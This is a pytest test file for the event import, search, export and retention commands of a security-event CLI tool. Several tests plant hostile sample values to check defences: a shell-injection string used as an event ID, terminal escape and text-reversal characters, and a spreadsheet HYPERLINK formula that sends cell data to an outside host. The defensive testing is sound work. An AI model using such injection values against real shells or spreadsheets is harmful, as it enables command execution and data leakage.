"""Security events on the command line: imported, found, counted, written, tended."""

from __future__ import annotations

import csv
import gzip
import io
import json
import os
import shlex
import shutil
import sys
from typing import TYPE_CHECKING, Any

import pyarrow.parquet as pq
import pytest

from tocsin.runtime.events.store import open_event_store

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from tests.cli.conftest import Cli

STORE = ("--store", "events.db")
_BOTH_FORMS = ("search", "top", "timeline")


def event(number: int, **more: Any) -> dict[str, Any]:
    return {
        "Format": "IDEA0",
        "ID": f"e{number}",
        "DetectTime": f"2026-01-31T{number:02}:00:00Z",
        "Category": ["Recon.Scanning" if number % 2 else "Attempt.Login"],
        "Description": f"event {number}",
        "Source": [{"IP4": [f"10.0.0.{number}"], "Port": [1000 + number]}],
        "Target": [{"Hostname": [f"h{number}.example.org"], "Port": [22]}],
        "Node": [{"Name": "probe"}],
        **more,
    }


@pytest.fixture(scope="module")
def ten_events(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Give a storage with ten events, to be copied."""
    path = tmp_path_factory.mktemp("store") / "ten.db"
    with open_event_store(str(path), create=True) as service:
        service.insert_events(event(number) for number in range(1, 11))
    return path


@pytest.fixture
def store(cli: Cli, tmp_path: Path, ten_events: Path) -> Callable[..., Any]:
    """Give a function that imports events into a file, which has ten."""

    def fill(*events: dict[str, Any]) -> None:
        (tmp_path / "in.jsonl").write_text("".join(json.dumps(one) + "\n" for one in events))
        cli("events", "import", "in.jsonl", *STORE)

    shutil.copy(ten_events, tmp_path / "events.db")
    return fill


@pytest.fixture
def stdin(monkeypatch: pytest.MonkeyPatch) -> Callable[[bytes], None]:
    def give(content: bytes) -> None:
        monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(content)))

    return give


def found(cli: Cli, *options: str) -> list[str]:
    return [one["ID"] for one in cli("events", "search", *options, *STORE, "--json").json["events"]]


def test_an_import_says_what_became_of_the_events_and_does_nothing_twice(cli: Cli, tmp_path: Path) -> None:
    (tmp_path / "a.jsonl").write_text(f"{json.dumps(event(1))}\n{json.dumps(event(2))}\nbroken\n")

    first = cli("events", "import", "a.jsonl", *STORE, "--json")
    again = cli("events", "import", "a.jsonl", *STORE)

    counts = {"new": 2, "duplicate": 0, "rejected": 1}
    assert counts.items() <= first.json.items()
    assert first.err.startswith("note: a.jsonl:3: rejected: ")
    assert again.out == "1 file: 0 new events, 2 duplicates, 1 rejected\n"
    assert cli("events", "count", *STORE, "--json").json["count"] == 2


@pytest.mark.parametrize("text", ["[\n%s\n,\n%s\n]", "%s\n%s"])
def test_what_is_rejected_of_an_array_or_of_indented_objects_is_an_event_and_no_line(
    cli: Cli, tmp_path: Path, text: str
) -> None:
    (tmp_path / "a.json").write_text(
        text % (json.dumps(event(1), indent=1), json.dumps({"no": "ID"}, indent=1))
    )

    assert cli("events", "import", "a.json", *STORE).err == "note: a.json, event 2: rejected: no usable ID\n"


def test_a_project_has_its_events_in_its_memory(cli: Cli, tmp_path: Path) -> None:
    cli("init", "shop")
    (tmp_path / "a.json").write_text(json.dumps([event(1), event(2)]))

    cli("events", "import", "a.json", "-p", "shop")

    assert cli("events", "count", "-p", "shop").out == "2 events\n"
    assert cli("events", "count", "-p", "shop", "--json").json["count"] == 2
    assert cli("events", "stats", "-p", "shop", "--json").json["tables"]["events"]["rows"] == 2
    assert cli("status", "-p", "shop").out


def test_standard_input_and_compressed_files_are_imported(
    cli: Cli, tmp_path: Path, stdin: Callable[[bytes], None]
) -> None:
    (tmp_path / "a.gz").write_bytes(gzip.compress(json.dumps(event(1)).encode()))
    stdin(json.dumps(event(2)).encode())

    assert cli("events", "import", "a.gz", "-", *STORE, "--json").json["new"] == 2


def test_csv_is_imported_by_a_mapping_and_without_one_says_so(cli: Cli, tmp_path: Path) -> None:
    (tmp_path / "a.csv").write_text("when;what\n2026-01-31;Scan\n")
    (tmp_path / "m.yml").write_text('columns: {when: DetectTime, what: Category}\ndelimiter: ";"\n')

    without = cli("events", "import", "a.csv", *STORE, code=2)
    done = cli("events", "import", "a.csv", *STORE, "--mapping", "m.yml", "--json")

    assert "error: a.csv is neither IDEA (JSON) nor CSV" in without.err
    assert done.json["new"] == 1


def test_a_queue_is_worked_through(cli: Cli, tmp_path: Path) -> None:
    folder = tmp_path / "queue"
    (folder / "incoming").mkdir(parents=True)
    (folder / "incoming" / "good").write_text(json.dumps(event(1)))
    (folder / "incoming" / "bad").write_text("{")

    done = cli("events", "import", "--queue", "queue", *STORE, "--json")

    assert (done.json["new"], done.json["rejected"], done.json["files"]) == (1, 1, 2)
    assert (folder / "done" / "good").is_file()
    assert (folder / "errors" / "bad.reason").is_file()
    assert cli("events", "import", "--queue", "queue", *STORE).out == (
        "0 files: 0 new events, 0 duplicates, 0 rejected\n"
    )


def test_a_folder_stands_for_its_files_which_stay(cli: Cli, tmp_path: Path) -> None:
    (tmp_path / "many").mkdir()
    for number in (1, 2):
        (tmp_path / "many" / f"{number}.json").write_text(json.dumps(event(number)))

    assert cli("events", "import", "many", *STORE, "--json").json["new"] == 2
    assert len(list((tmp_path / "many").iterdir())) == 2


def test_of_several_files_those_that_can_be_read_are_imported(cli: Cli, tmp_path: Path) -> None:
    (tmp_path / "a.json").write_text(json.dumps(event(1)))

    done = cli("events", "import", "gone", "a.json", *STORE, "--json", code=1)

    assert done.json["new"] == 1
    assert done.json["failed"] == [
        {"file": "gone", "error": "gone cannot be read: No such file or directory"}
    ]
    assert done.err == "error: gone cannot be read: No such file or directory\n"


@pytest.mark.parametrize(
    ("arguments", "error"),
    [
        ((), "say what to import: name files, - for standard input, or --queue FOLDER"),
        (("a", "--queue", "."), "say what to import: name files, - for standard input, or --queue FOLDER"),
        (("",), "the name of a file is empty: name files, or - for standard input"),
        (("-", "-"), "standard input can be read once: give one -"),
        (("a", "--remove"), "--remove is for queues: give --queue FOLDER with it"),
        (("a", "--mapping", "gone.yml"), "gone.yml: cannot be read (No such file or directory)"),
    ],
)
def test_a_wrong_import_is_one_sentence(cli: Cli, arguments: tuple[str, ...], error: str) -> None:
    assert cli("events", "import", *arguments, *STORE, code=2).error == error


@pytest.mark.parametrize(
    ("options", "expected"),
    [
        (["--source", "10.0.0.3"], "3"),
        (["--source", "10.0.0.2-10.0.0.4"], "432"),
        (["--source", "10.0.0.1", "--source", "10.0.0.9"], "91"),
        (["--target", "h5.example.org"], "5"),
        (["--host", ".example.org", "--host-port", "1002-1003"], "32"),
        (["--target-port", "22", "--source-port", "1001"], "1"),
        (["--category", "Recon.Scanning", "--to", "2026-01-31T05:00"], "531"),
        (["--not-category", "Recon.Scanning", "--from", "2026-01-31T08:00:00+00:00"], "A8"),
        (["--not-source", "10.0.0.0/29", "--not-source-port", "1009"], "A8"),
        (["--description", "event 7"], "7"),
        (["--description-like", "EVENT 1"], "A1"),
        (["--text", "event 4"], "4"),
        (["--text", "login", "--from", "2026-01-31T09:30"], "A"),
        (["--detector", "probe", "--id", "e2", "--id", "e3"], "32"),
        (["--class", "__EMPTY__", "--id", "e1"], "1"),
        (["--class", "__ANY__"], ""),
        (["--limit", "2", "--sort", "detecttime.asc"], "12"),
        (["--limit", "3", "--page", "2"], "765"),
        (["--stored-from", "1h", "--limit", "1"], "A"),
        (["--stored-to", "1h"], ""),
        (["--from", "-2h"], ""),
    ],
)
@pytest.mark.usefixtures("store")
def test_options_are_the_search_parameters(cli: Cli, options: list[str], expected: str) -> None:
    assert found(cli, *options) == [f"e{int(digit, 16)}" for digit in expected]


@pytest.mark.usefixtures("store")
def test_pages_follow_each_other_by_what_the_last_one_said(cli: Cli) -> None:
    seen: list[str] = []
    after: list[str] = []

    while True:
        page = cli("events", "search", *STORE, "--limit", "4", "--json", *after).json
        seen += [one["ID"] for one in page["events"]]
        if page["after"] is None:
            break
        after = ["--after", page["after"]]

    assert seen == [f"e{number}" for number in range(10, 0, -1)]


@pytest.mark.usefixtures("store")
def test_the_table_of_a_search_is_for_people_and_says_how_to_go_on(cli: Cli) -> None:
    lines = cli("events", "search", *STORE, "--limit", "2").out.splitlines()

    assert lines[0].split() == [
        "detected",
        "(UTC)",
        "category",
        "source",
        "target",
        "detector",
        "description",
        "id",
    ]
    assert (
        lines[1].split("  ")
        == [
            "2026-01-31 10:00:00",
            "Attempt.Login ",
            "10.0.0.10 :1010",
            "h10.example.org :22",
            "probe   ",
            "event 10",
            "  e10",
        ]
        or "e10" in lines[1]
    )
    assert lines[3] == "2 events; for the next ones add --after '2026-01-31T09:00:00+00:00,e9'"
    assert cli("events", "search", *STORE, "--id", "x").out == "no event is like that\n"


def test_how_to_go_on_can_be_copied_into_a_shell_whatever_the_id_is(
    cli: Cli, store: Callable[..., Any]
) -> None:
    ident = "e'; touch x; 'é $(x) `x`"
    store(event(11, ID=ident))

    out = cli("events", "search", *STORE, "--limit", "1", "--from", "2026-01-31T11:00").out

    *_, option, after = shlex.split(out.splitlines()[-1])
    assert (option, after) == ("--after", f"2026-01-31T11:00:00+00:00,{ident}")


def test_what_is_in_an_event_cannot_steer_the_terminal(cli: Cli, store: Callable[..., Any]) -> None:
    store(event(11, Description="\x1b[2J\u202egnp", Category=["a\nb"]))

    for command in (["search"], ["show", "e11"], ["top", "--by", "description"]):
        out = cli("events", *command, *STORE).out
        assert "\x1b" not in out
        assert "\u202e" not in out


@pytest.mark.parametrize(
    "command", [["search", "--sort", "detecttime.asc"], ["timeline"], ["stats", "--brief"]]
)
def test_a_time_in_a_table_has_a_year_of_four_digits(
    cli: Cli, store: Callable[..., Any], command: list[str]
) -> None:
    store(event(11, DetectTime="0001-01-01T00:00:00Z"))

    assert " 0001-01-01" in cli("events", *command, *STORE).out.replace("\n", " ")


@pytest.mark.usefixtures("store")
def test_an_event_is_shown_whole_and_a_missing_one_is_an_error(cli: Cli) -> None:
    shown = cli("events", "show", "e1", "gone", *STORE, "--json", code=1)

    assert shown.json["events"][0]["event"] == event(1)
    assert shown.json["missing"] == ["gone"]
    assert shown.err == "error: there is no event gone\n"
    assert '"ID": "e1"' in cli("events", "show", "e1", *STORE).out


def test_what_is_wrong_with_an_event_is_shown(cli: Cli, store: Callable[..., Any]) -> None:
    store(event(11, DetectTime="yesterday"))

    out = cli("events", "show", "e11", *STORE).out

    assert "wrong with it: " in out
    assert found(cli, "--inspection-error", "__ANY__") == ["e11"]


def test_an_event_with_an_address_in_place_of_a_host_name_is_found_by_it(
    cli: Cli, store: Callable[..., Any]
) -> None:
    store(event(11, Source=[{"Hostname": ["10.1.2.3"]}]), event(12, Target=[{"Hostname": ["2001:db8::7"]}]))

    assert found(cli, "--source", "10.1.2.0/24") == ["e11"]
    assert found(cli, "--host", "2001:db8::7") == ["e12"]
    assert found(cli, "--inspection-error", "Source.Hostname: an address, not the name of a host") == ["e11"]


def test_an_import_says_that_what_it_stored_has_something_wrong_in_it(cli: Cli, tmp_path: Path) -> None:
    rows = "".join(f"{day}.11.2026,10.0.0.{day},{port}\n" for day, port in ((20, 22), (21, 22), (22, 70_000)))
    (tmp_path / "a.csv").write_text("when,who,port\n" + rows)
    mapping = (
        "columns: {when: DetectTime, who: Source.IP, port: Source.Port}\nconstants: {Category: [Scan]}\n"
    )
    (tmp_path / "wrong.yml").write_text(mapping + 'time_format: "%m.%d.%Y"\n')
    (tmp_path / "right.yml").write_text(mapping + 'time_format: "%d.%m.%Y"\n')

    wrong = cli("events", "import", "a.csv", "--mapping", "wrong.yml", *STORE)
    right = cli("events", "import", "a.csv", "--mapping", "right.yml", "--store", "other.db")
    again = cli("events", "import", "a.csv", "--mapping", "right.yml", "--store", "other.db")

    assert wrong.err == (
        "note: 3 of 3 new events have something wrong in them, which"
        " `tocsin events top --by inspection-error` counts: DetectTime: not a time (3), among others\n"
    )
    assert right.err.startswith("note: 1 of 3 new events has something wrong in it, which")
    assert "DetectTime" not in right.err
    assert again.err == ""


@pytest.mark.usefixtures("store")
def test_csv_has_a_row_for_each_event(cli: Cli) -> None:
    rows = list(csv.DictReader(io.StringIO(cli("events", "search", *STORE, "--csv", "--limit", "3").out)))

    assert [row["id"] for row in rows] == ["e10", "e9", "e8"]


@pytest.mark.usefixtures("store")
def test_an_export_can_be_imported_again(cli: Cli, tmp_path: Path) -> None:
    cli("events", "export", *STORE, "-o", "out.jsonl")
    lines = (tmp_path / "out.jsonl").read_text().splitlines()
    piped = cli("events", "export", *STORE, "--limit", "3").out.splitlines()

    assert [json.loads(line) for line in lines] == [event(number) for number in range(1, 11)]
    assert piped == lines[:3]
    assert cli("events", "import", "out.jsonl", "--store", "copy.db", "--json").json["new"] == 10


@pytest.mark.usefixtures("store")
def test_a_dash_is_standard_output_for_an_export(cli: Cli, tmp_path: Path) -> None:
    lines = cli("events", "export", *STORE, "-o", "-", "--limit", "2").out.splitlines()

    assert [json.loads(line)["ID"] for line in lines] == ["e1", "e2"]
    assert not (tmp_path / "-").exists()


def test_csv_has_texts_as_they_are_and_the_help_warns_of_formulas(
    cli: Cli, store: Callable[..., Any]
) -> None:
    formula = '=HYPERLINK("https://example.org/?"&A1)'
    store(event(11, Description=formula))

    exported = cli("events", "export", *STORE, "--format", "csv", "--id", "e11").out
    (row,) = csv.DictReader(io.StringIO(exported))

    assert row["description"] == formula
    assert "a spreadsheet takes one that begins with =" in " ".join(
        cli("events", "export", "--help").out.lower().split()
    )


@pytest.mark.usefixtures("store")
def test_an_export_into_a_pipe_leaves_it_a_pipe(cli: Cli, tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe")
    reader = os.open(tmp_path / "pipe", os.O_RDONLY | os.O_NONBLOCK)

    said = cli("events", "export", *STORE, "--limit", "2", "-o", "pipe").out

    assert said == "wrote pipe: 2 events\n"
    assert [json.loads(line)["ID"] for line in os.read(reader, 10_000).splitlines()] == ["e1", "e2"]
    assert (tmp_path / "pipe").is_fifo()
    os.close(reader)


@pytest.mark.usefixtures("store")
def test_an_export_through_a_link_leaves_the_link(cli: Cli, tmp_path: Path) -> None:
    (tmp_path / "link").symlink_to("real")

    cli("events", "export", *STORE, "-o", "link")

    assert (tmp_path / "link").is_symlink()
    assert len((tmp_path / "real").read_text().splitlines()) == 10


@pytest.mark.usefixtures("store")
def test_who_may_read_an_export_stays_when_it_is_written_anew(cli: Cli, tmp_path: Path) -> None:
    (tmp_path / "out.jsonl").touch()
    (tmp_path / "out.jsonl").chmod(0o600)

    cli("events", "export", *STORE, "-o", "out.jsonl")

    assert (tmp_path / "out.jsonl").stat().st_mode & 0o777 == 0o600
    assert len((tmp_path / "out.jsonl").read_text().splitlines()) == 10


@pytest.mark.usefixtures("store")
def test_an_export_has_the_form_of_its_ending(cli: Cli, tmp_path: Path) -> None:
    done = cli("events", "export", *STORE, "-o", "out.parquet", "--source", "10.0.0.1", "--json").json
    cli("events", "export", *STORE, "-o", "out.csv")

    assert done == {"schema_version": 1, "written": ["out.parquet"], "count": 1}
    assert pq.read_table(tmp_path / "out.parquet").column("id").to_pylist() == ["e1"]
    assert len((tmp_path / "out.csv").read_text().splitlines()) == 11
    assert [path.name for path in tmp_path.iterdir() if "tmp" in path.name] == []


@pytest.mark.parametrize(
    ("options", "error"),
    [
        (["-o", "x.doc"], "the ending .doc is not understood: one of jsonl, csv, parquet"),
        (["--format", "xml"], "--format 'xml' is not understood: one of jsonl, csv, parquet"),
        (["--format", "parquet"], "Parquet cannot be written into a pipe: name a file with --output"),
        (["--json"], "--json tells which file was written: name one with --output"),
        (
            ["-o", "gone/x.csv"],
            "gone/x.csv cannot be written (No such file or directory): make its folder first",
        ),
        *(
            (
                ["-o", "/dev/full", "--format", form],
                "/dev/full cannot be written (No space left on device): name another file or folder",
            )
            for form in ("jsonl", "csv", "parquet")
        ),
    ],
)
@pytest.mark.usefixtures("store")
def test_a_wrong_export_is_one_sentence(cli: Cli, options: list[str], error: str) -> None:
    assert cli("events", "export", *STORE, *options, code=2).error == error


@pytest.mark.usefixtures("store")
def test_events_are_counted_by_value(cli: Cli) -> None:
    top = cli("events", "top", *STORE, "--by", "source", "--limit", "2", "--json").json
    out = cli("events", "top", *STORE).out.splitlines()

    assert [row["count"] for row in top["rows"]] == [1, 1]
    assert (top["rest"], top["none"], top["total"]) == (8, 0, 10)
    assert [line.split() for line in out] == [
        ["category", "events"],
        ["Attempt.Login", "5"],
        ["Recon.Scanning", "5"],
        ["10", "events"],
    ]
    assert cli("events", "top", *STORE, "--csv", "--by", "detector").out.splitlines() == [
        "detector,count",
        "probe,10",
        "(others),0",
        "(none),0",
    ]


@pytest.mark.parametrize("command", [("search",), ("top",), ("timeline", "--by", "category")])
def test_csv_is_utf_8_whatever_the_terminal_can_show(
    cli: Cli, store: Callable[..., Any], monkeypatch: pytest.MonkeyPatch, command: tuple[str, ...]
) -> None:
    store(event(11, Category=["Größe"]))
    written = io.BytesIO()
    monkeypatch.setattr(sys, "stdout", io.TextIOWrapper(written, encoding="ascii"))

    cli("events", *command, *STORE, "--csv", "--id", "e11")

    assert "Größe" in written.getvalue().decode()


@pytest.mark.usefixtures("store")
def test_events_are_counted_by_time(cli: Cli) -> None:
    line = cli(
        "events", "timeline", *STORE, "--step", "5h", "--by", "category", "--limit", "1", "--json"
    ).json
    out = cli("events", "timeline", *STORE, "--to", "2026-01-31T03:00").out.splitlines()

    assert line["values"] == ["Attempt.Login"]
    assert sum(bucket["total"] for bucket in line["buckets"]) == 10
    assert all(bucket["total"] == sum(bucket["counts"]) + bucket["rest"] for bucket in line["buckets"])
    assert line["step_seconds"] == 18_000
    assert out[1].startswith("2026-01-31 01:00:00       1  █")
    rows = list(csv.reader(io.StringIO(cli("events", "timeline", *STORE, "--csv").out)))
    assert rows[0] == ["start", "total"]
    assert sum(int(row[1]) for row in rows[1:]) == 10


def test_a_long_value_leaves_a_table_readable_and_is_whole_for_machines(
    cli: Cli, store: Callable[..., Any]
) -> None:
    long = "GET /index.php?id=1 " + "A" * 900
    store(event(11, Description=long))
    top = ("events", "top", *STORE, "--by", "description", "--id", "e11")
    timeline = ("events", "timeline", *STORE, "--by", "description", "--id", "e11")

    assert cli(*top).out.splitlines() == [
        f"{'description':120}  events", f"{long[:119]}…       1", "1 event",
    ]  # fmt: skip
    assert cli(*timeline).out.splitlines()[0] == f"from (UTC)           events  {long[:59]}…"
    for command in (top, timeline):
        assert long in cli(*command, "--csv").out
        assert long in cli(*command, "--json").out


def test_a_timeline_takes_its_step_from_what_it_shows(cli: Cli, store: Callable[..., Any]) -> None:
    store(
        event(11, DetectTime="2019-01-01T00:00:00Z"),
        *(
            event(20 + place, DetectTime=f"2026-01-31T12:{place:02}:30Z", Node=[{"Name": "other"}])
            for place in (0, 30, 59)
        ),
        event(12, DetectTime="2026-01-31T13:00:29Z", Node=[{"Name": "last"}]),
    )

    def shown(*options: str) -> tuple[float, int]:
        line = cli("events", "timeline", *STORE, *options, "--json").json
        return line["step_seconds"], len(line["buckets"])

    assert shown("--detector", "other") == (60, 60)
    assert shown("--detector", "other", "--detector", "last") == (600, 7)  # with minutes, 61 rows
    assert shown("--from", "2020-01-01", "--to", "2026-02-20") == (3600, 13)
    assert shown("--from", "2026-01-31T12:30", "--detector", "other") == (60, 30)
    assert shown("--id", "e20") == (1, 1)
    assert shown("--text", "nothing") == (1, 0)
    assert shown()[1] <= 60


def test_an_empty_store_answers_everything(cli: Cli, tmp_path: Path) -> None:
    (tmp_path / "empty").write_text("")
    cli("events", "import", "empty", *STORE)

    assert cli("events", "search", *STORE).out == "there are no events\n"
    assert cli("events", "count", *STORE).out == "0 events\n"
    assert cli("events", "top", *STORE, "--json").json["rows"] == []
    assert cli("events", "timeline", *STORE, "--json").json["buckets"] == []
    assert cli("events", "timeline", *STORE).out == "there are no events\n"
    assert cli("events", "timeline", *STORE, "--id", "gone").out == "no event is like that\n"
    assert cli("events", "export", *STORE).out == ""
    assert cli("events", "watchdog", *STORE, code=1).out == "no event within 1h: there are none at all\n"
    assert cli("events", "retention", "--older-than", "1d", *STORE).out == "0 events deleted\n"


@pytest.mark.usefixtures("store")
def test_the_watchdog_says_whether_events_come_in(cli: Cli) -> None:
    assert cli("events", "watchdog", *STORE).out == "events were stored within 1h\n"
    answer = cli("events", "watchdog", "--interval", "0.000001s", *STORE, "--json", code=1).json
    assert answer["alive"] is False


@pytest.mark.usefixtures("store")
def test_deleting_needs_a_filter_and_a_yes(cli: Cli, stdin: Callable[[bytes], None]) -> None:
    stdin(b"")
    assert cli("events", "delete", *STORE, code=2).error == (
        "say which events to delete: give a filter, such as --to 2026-01-31, or --all"
    )
    assert cli("events", "delete", *STORE, "--all", "--id", "e1", "--yes", code=2).error.startswith(
        "--all and a filter do not go together"
    )
    assert cli("events", "delete", *STORE, "--id", "e1", code=2).error == (
        "nobody is there to be asked: give --yes to delete"
    )
    assert cli("events", "delete", *STORE, "--description-like", "", "--yes", code=2).error == (
        "--description-like is empty, which any description has in it: give a part of the description"
    )
    assert cli("events", "count", *STORE).out == "10 events\n"

    assert (
        cli("events", "delete", *STORE, "--category", "Recon.Scanning", "--yes").out == "5 events deleted\n"
    )
    assert cli("events", "delete", *STORE, "--all", "--yes", "--json").json["deleted"] == 5


@pytest.mark.parametrize(("answer", "left"), [("y\n", 9), ("n\n", 10), ("\n", 10)])
@pytest.mark.usefixtures("store")
def test_on_a_terminal_deleting_asks(
    cli: Cli, monkeypatch: pytest.MonkeyPatch, stdin: Callable[[bytes], None], answer: str, left: int
) -> None:
    stdin(answer.encode())
    monkeypatch.setattr(sys.stdin, "isatty", lambda: True)

    said = cli("events", "delete", *STORE, "--id", "e1")

    assert "Delete 1 event from events.db?" in said.err
    assert cli("events", "count", *STORE).out == f"{left} events\n"


@pytest.mark.usefixtures("store")
def test_retention_deletes_what_was_stored_long_ago(cli: Cli) -> None:
    assert cli("events", "retention", "--older-than", "1d", *STORE).out == "0 events deleted\n"
    kept = cli("events", "retention", "--older-than", "0.000001s", *STORE, "--json").json
    assert (kept["deleted"], kept["rejected_deleted"]) == (10, 0)


@pytest.mark.usefixtures("store")
@pytest.mark.parametrize(
    ("asked", "hint"), [("90", "write 90d for days"), ("3m", "or 3min for minutes"), (" 1.5 ", "write 1.5d")]
)
def test_retention_asks_nobody_and_so_does_not_guess_the_unit(cli: Cli, asked: str, hint: str) -> None:
    assert hint in cli("events", "retention", "--older-than", asked, *STORE, code=2).error
    assert cli("events", "count", *STORE).out == "10 events\n"


@pytest.mark.usefixtures("store")
@pytest.mark.parametrize("command", ["count", "search", "timeline", "top"])
def test_a_window_that_ends_before_it_begins_is_refused(cli: Cli, command: str) -> None:
    window = ("--from", "2026-03-02", "--to", "2026-03-01T12:00")
    assert cli("events", command, *window, *STORE, code=2).error == (
        "--from 2026-03-02 00:00:00 is not before --to 2026-03-01 12:00:00: the other way round?"
    )
    stored = ("--stored-from", "1h", "--stored-to", "2h")
    assert "--stored-from" in cli("events", command, *stored, *STORE, code=2).error
    assert cli("events", command, "--from", "2026-03-02", "--to", "2026-03-02", *STORE).code == 0


@pytest.mark.usefixtures("store")
def test_there_are_no_queries_of_others_on_a_file(cli: Cli) -> None:
    assert cli("events", "queries", *STORE).out == "no search is running\n"
    assert cli("events", "queries", *STORE, "--json").json["queries"] == []
    assert cli("events", "cancel", "mine", *STORE, code=1).out == "no query mine is running\n"
    assert cli("events", "cancel", "mine", *STORE, "--json", code=1).json["canceled"] is False


@pytest.mark.parametrize(
    ("command", "options", "error"),
    [
        ("search", ["--source", "300.1.2.3"], "--source cannot be '300.1.2.3'"),
        ("search", ["--not-target-port", "70000"], "--target-port cannot be '70000'"),
        (
            "count",
            ["--from", "0001-01-01T00:00:00+14:00"],
            "--from '0001-01-01T00:00:00+14:00' is not a date",
        ),
        ("count", ["--from", "soon"], "--from 'soon' is not a date or time: write 2024-01-31, "),
        (
            "count",
            ["--category", "a", "--not-category", "b"],
            "--category and --not-category do not go together",
        ),
        ("search", ["--sort", "id.asc"], "--sort cannot be 'id.asc'"),
        ("search", ["--page", f"{2**62}", "--limit", "9"], f"--page cannot be {2**62}: it takes a page with"),
        ("search", ["--after", "x"], "--after 'x' is not understood: it is what the page before said"),
        ("search", ["--after", "2026-01-31,x", "--page", "2"], "--after and --page do not go together"),
        ("count", ["--timeout", "soon"], "--timeout: 'soon' is not a length of time"),
        ("count", ["--timeout", "0"], "--timeout '0' is no time at all"),
        ("count", ["--name", "a b"], "--name cannot be 'a b'"),
        ("top", ["--by", "colour"], "--by 'colour' is not understood: one of category, class"),
        ("timeline", ["--step", "1s"], ""),
        *((command, ["--json", "--csv"], "--json and --csv do not go together") for command in _BOTH_FORMS),
        ("retention", ["--older-than", "soon"], "--older-than: 'soon' is not a length of time"),
        ("watchdog", ["--interval", "soon"], "--interval: 'soon' is not a length of time"),
    ],
)
@pytest.mark.usefixtures("store")
def test_a_wrong_option_is_one_sentence(cli: Cli, command: str, options: list[str], error: str) -> None:
    assert cli("events", command, *options, *STORE, code=2).error.startswith(error)


def test_a_store_that_is_not_there_is_one_sentence(cli: Cli) -> None:
    assert cli("events", "count", "--store", "gone.db", code=2).error == (
        "there is no event storage at gone.db: `tocsin events import` makes one"
    )
    assert cli("events", "count", code=2).error.endswith(
        "run `tocsin init NAME`, or point to a project with -p"
    )
    error = "an event storage cannot be in mysql: sqlite or postgresql"
    assert cli("events", "count", "--store", "mysql://u:secret@h/d", code=2).error == error


def test_a_search_that_takes_too_long_is_ended(cli: Cli, store: Callable[..., Any]) -> None:
    store(*(event(1, ID=f"x{number}", Description="ab" * 500) for number in range(3000)))

    said = cli("events", "count", *STORE, "--description-like", "zz", "--timeout", "0.000001s", code=1)

    assert said.error


def test_a_store_without_words_says_how_to_get_them(cli: Cli, tmp_path: Path) -> None:
    (tmp_path / "a.json").write_text(json.dumps(event(1)))
    cli("events", "import", "a.json", *STORE, "--no-text-index")

    assert "text" in cli("events", "search", *STORE, "--text", "scan", code=2).error


def test_the_store_can_come_from_the_environment(
    cli: Cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("TOCSIN_EVENT_STORE", "env.db")
    (tmp_path / "a.json").write_text(json.dumps(event(1)))

    cli("events", "import", "a.json")

    assert (tmp_path / "env.db").is_file()
    assert cli("events", "count").out == "1 event\n"
